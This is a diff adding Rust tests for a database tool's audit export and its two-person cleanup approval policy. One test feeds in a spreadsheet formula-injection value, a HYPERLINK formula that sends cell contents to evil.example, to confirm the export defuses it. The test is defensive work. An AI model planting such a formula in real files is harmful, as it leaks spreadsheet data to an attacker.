@@ -126,3 +126,97 @@ async fn audit_verify_names_the_row_edited_with_triggers_disabled() {
         text(&broken)
     );
 }
+
+/// The export is safe to open in a spreadsheet: a failed login's actor is whatever an anonymous
+/// visitor typed, and a cell beginning with `=`, `+`, `-` or `@` is written with a leading `'`.
+/// `audit verify` still works on the table, whatever the file shows.
+#[tokio::test]
+async fn audit_export_neutralises_formula_cells() {
+    let db = TestDb::migrated().await.unwrap();
+    let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+    for actor in [hostile, "@SUM(1)", "dba1"] {
+        let event = partitioning::pg::audit::AuditEvent::new(
+            actor,
+            "login_failed",
+            "",
+            serde_json::json!({"reason": "unknown user"}),
+        );
+        partitioning::pg::audit::append(&db.pool, &event)
+            .await
+            .unwrap();
+    }
+    let dir = tempdir();
+    let file = dir.join("trail.csv");
+    let export = cli(&db, &["audit", "export", "--out", file.to_str().unwrap()]).await;
+    assert_eq!(export.status.code(), Some(0), "{}", text(&export));
+    let mut reader = csv::Reader::from_path(&file).unwrap();
+    let actors: Vec<String> = reader
+        .records()
+        .map(|r| r.unwrap()[2].to_string())
+        .collect();
+    assert_eq!(
+        actors,
+        [
+            format!("'{hostile}"),
+            "'@SUM(1)".to_string(),
+            "dba1".to_string()
+        ]
+    );
+    let ok = cli(&db, &["audit", "verify"]).await;
+    assert_eq!(ok.status.code(), Some(0), "{}", text(&ok));
+}
+
+/// Any table can be put under the two-person rule: with `SESSIONS_CLEANUP=approval`,
+/// `cleanup --force` files a request for the expired sessions partition instead of dropping it
+/// (an `auto` table next to it is still cleaned), and the policy change is audited by its actor.
+#[tokio::test]
+async fn cleanup_force_files_a_request_for_a_table_set_to_approval() {
+    let db = TestDb::migrated().await.unwrap();
+    let (session, rate): (String, String) = sqlx::query_as(
+        "SELECT create_sessions_partition((now() AT TIME ZONE 'UTC')::date - 100), \
+                create_rate_limits_partition((now() AT TIME ZONE 'UTC')::date - 20)",
+    )
+    .fetch_one(&db.pool)
+    .await
+    .unwrap();
+    let dir = tempdir();
+    let conf = dir.join("partitioning.conf");
+    std::fs::write(&conf, "SESSIONS_CLEANUP=approval\n").unwrap();
+    let args = [
+        "cleanup",
+        "--force",
+        "--config",
+        conf.to_str().unwrap(),
+        "--actor",
+        "cli:dba1",
+    ];
+    let out = cli(&db, &args).await;
+    let said = text(&out);
+    assert_eq!(out.status.code(), Some(0), "{said}");
+    assert!(said.contains("filed cleanup request #1"), "{said}");
+    assert!(exists(&db, &session).await, "{session} kept: {said}");
+    assert!(!exists(&db, &rate).await, "{rate} (auto) dropped: {said}");
+    let (tables, needs_compliance, by): (Vec<String>, bool, String) = sqlx::query_as(
+        "SELECT tables, needs_compliance, requested_by FROM cleanup_requests WHERE id = 1",
+    )
+    .fetch_one(&db.pool)
+    .await
+    .unwrap();
+    assert_eq!(tables, ["sessions"]);
+    assert!(!needs_compliance, "sessions needs a DBA only");
+    assert_eq!(by, "cli:dba1");
+    let change: (String, serde_json::Value) = sqlx::query_as(
+        "SELECT actor, detail->'changes' FROM audit_trail WHERE action = 'policy_changed'",
+    )
+    .fetch_one(&db.pool)
+    .await
+    .unwrap();
+    assert_eq!(
+        change,
+        (
+            "cli:dba1".to_string(),
+            serde_json::json!([{"table": "sessions", "field": "cleanup_mode",
+                                "old": "auto", "new": "approval"}])
+        )
+    );
+}
